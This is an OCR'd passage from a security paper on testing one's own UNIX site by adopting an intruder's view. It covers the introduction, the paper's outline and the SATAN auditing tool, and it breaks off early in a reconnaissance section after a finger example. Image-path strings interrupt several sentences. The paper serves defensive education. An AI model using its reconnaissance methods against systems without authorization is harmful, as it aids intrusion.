Improving the Security of Your Site by Breaking Into it

Introduction———— Every day, all over the world, computer networks and hosts are beingbroken into. The level of sophistication of these attacks varieswidely; while it is generally believed that most break-ins succeed dueto weak passwords, ther…



Every day, all over the world, computer networks and hosts are being

broken into. The level of sophistication of these attacks varies

widely; while it is generally believed that most break-ins succeed due

to weak passwords, there are still a large number of intrusions that usemore advanced techniques to break in. Less is known about the latter

types of break-ins, because by their very nature they are much harder to



CERT. SRI. The Nic. NCSC. RSA. NASA. MIT. Uunet. Berkeley .

Purdue. Sun. You name it, we’ve seen it broken into. Anything that is

on the Internet (and many that isn’t) seems to befairly easy game. Are

these targets unusual? What happened?

Fade to…

A young boy, with greasy blonde hair, sitting in a dark room. The room

is illuminated only by the luminescense of the C64’s 40 character

screen. Taking another long drag from his Benson and Hedges cigarette,

the weary system cracker telnets to the next faceless “.mil” site on his

hit list. “guest — guest”, “root — root”, and “system — manager” all

fail.No matter. He has all night… he pencils the host off of his

list, and tiredly types in the next potential victim…

This seems to be the popular image of a system cracker. Young,

inexperienced, and possessing vast quantities of time to waste, to get

into just one more system. However, there is a far more dangerous type

of system cracker out there. One who knows the ins and outs of thelatest security auditing and cracking tools, who can modify them for

specific attacks, and who can write his/her own programs. One who not

only reads about the latest security holes, but also personally

discovers bugs and vulnerabilities. A deadly creature that can both

strike poisonously and hide its tracks without a whisper or hint ofa

trail. The uebercracker is here.


Why “uebercracker”? The idea is stolen, obviously, from Nietzsche’s

uebermensch, or, literally translated into English, “over man.”

Nietzsche used the term not to refer to a comic book superman, but

instead a man who had gone beyond the incompetence, pettiness, and

weakness of the everyday man. The uebercracker is therefore the system

cracker who has gone beyond simple cookbook methods of breaking into

systems. An uebercracker is not usually motivated to perform random

acts of violence. Targets are not arbitrary — there is a purpose,

whether it be personal monetary gain, a hit and run raid for

information, or a challenge to strike a major or prestigious site or

net.personality. An uebercracker is hard to detect, harder to stop, and

hardest to keep out of your site for good.



In this paper we will take an unusual approach to system security.

Instead of merely saying that something is a problem, we will look

through the eyes of a potential intruder, and show _why_ it is one. We

will illustrate that even seemingly harmless network services can becomevaluable tools in the search for weak points of a system, even when

these services are operating exactly as they are intended to.

In an effort to shed some light on how more advanced intrusions occur,

thispaper outlines various mechanisms that crackers have actually used

to obtain access to systems and, in addition, some techniques we either

suspect intruders of using, or that we have used ourselves in tests or

in friendly/authorized environments.

Our motivation for writing this paper is that system administrators are

often unaware of the dangers presented by anything beyond the most

trivial attacks. While it is widely known that the proper level of

protection depends on what has to be protected, many sites appear to

lack the resources to assess what level of host and network security is

adequate. By showing what intruders can do to gain access to a remote

site, we are trying to help system administrators to make _informed_

decisions on how to secure their site — or not. We will limit the

discussion to techniques that can give a remote intruder access to a(possibly non-interactive) shell process on a UNIX host. Once this is

achieved, the details of obtaining root privilege are beyond the scope

of this work — we consider them too site-dependent and, in many cases,

too trivial to merit much discussion.

We want to stress that we will not merely run down a list of bugs or

security holes — there will always be new ones for a potential attacker

to exploit. The purpose of this paper is to try to get the reader to

look at her or his system in a new way — one that will hopefully afford

him or her the opportunity to _understand_ how their system can be

compromised, and how.

We would also like to reiterate to the reader that the purpose of this

paper is to show you how to test the security of your own site, not how

to break into other people’s systems. The intrusion techniques we

illustrate here will often leave traces in your system auditing logs —it might be constructive to examine them after trying some of these

attacks out, to see what a real attack might look like. Certainly other

sites and system administrators will take a very dim view of your

activities if you decide to use their hosts for security testing without

advance authorization; indeed, it is quite possible that legal action

may be pursued against you if they perceive it as an attack.

There are four main parts to the paper. The first part is the

introduction and overview. The second part attempts to give the reader

a feel for what it is like to be an intruder and how to go from knowing

nothing about a system to compromising its security. This section goesover actual techniques to gain information and entrance and covers basic

strategies such as exploiting trust and abusing improperly configured

basic network services (ftp, mail, tftp, etc.) It also discusses

slightly more advanced topics, such as NIS and NFS, as well as various

common bugs and configuration problems that are somewhat more OS or

system specific. Defensive strategies against each of the various

attacks are also covered here.

The third section deals with trust: how the security of one system

depends on the integrity of other systems. Trust is the most complex

subject in this paper, and for the sake of brevity we will limit the

discussion to clients in disguise.The fourth section covers the basic steps that a system administrator

may take to protect her or his system. Most of the methods presented

here are merely common sense, but they are often ignored in practice —

one of our goals is to show just how dangerous it can be to ignore basic

security practices.

Case studies, pointers to security-related information, and software are

described in the appendices at the end of the paper.

While exploring the methods and strategies discussed in this paper we we

wrote SATAN (Security Analysis Tool for Auditing Networks.) Written in

shell, perl, expect and C, it examines a remote host or set of hosts and

gathers as much information as possible by remotely probing NIS, finger,

NFS, ftp and tftp, rexd, and other services. This information includes

the presence of various network information services as well as

potential security flaws — usually in the form of incorrectly setup or

configured network services, well-known bugs in system or network

utilities, or poor or ignorant policy decisions. It then can either

report on this data or use an expert system to further investigate any

potential security problems. While SATAN doesn’t use all of the methods

that we discuss in the paper, it has succeeded with ominous regularity

in finding serious holes in the security of Internet sites. It will beposted and made available via anonymous ftp when completed; Appendix A

covers its salient features.

Note that it isn’t possible to cover all possible methods of breaking

into systems in a single paper. Indeed, we won’t cover two of the most

effective methods of breaking into hosts: social engineering and

password cracking. The latter method is so effective, however, that

several of the strategies presented here are geared towards acquiring

password files. In addition, while windowing systems (X,OpenWindows,

etc.) can provide a fertile ground for exploitation, we simply don’t

know many methods that are used to break into remote systems. Many

system crackers use non-bitmapped terminals which can prevent them from

using some of the more interesting methods to exploit windowing systems

effectively (although being able to monitor the victim’s keyboard is

often sufficient to capture passwords). Finally, while worms, viruses,

trojan horses, and other malware are very interesting, they are not

common (on UNIX systems) and probably will use similar techniques to theones we describe in this paper as individual parts to their attack


Gaining Information


Let us assume that you are the head system administrator of Victim

Incorporated’s network of UNIX workstations. In an effort to secure

your machines, you ask a friendly system administrator from a nearby

site ( to give you an account on one of her machines so that

you can look at your own system’s security from the outside.

What should you do? First, try to gather information about your

(target) host. There is a wealth of network services to look at:

finger, showmount, and rpcinfo are good starting points. But don’t stop

there — you should also utilize DNS, whois, sendmail (smtp), ftp, uucp,

and as many other services as you can find. There are so many methods

and techniques that space precludes us from showing all of them, but wewill try to show a cross-section of the most common and/or dangerous

strategies that we have seen or have thought of. Ideally, you would

gather such information about all hosts on the subnet or area of attack

— information is power — but for now we’ll examine only our intended


To start out, you look at what the ubiquitous finger command shows you

(assume it is 6pm, Nov 6, 1993):

victim % finger


Login Name TTY Idle When Where

zen Dr. Fubar co 1d Wed 08:00

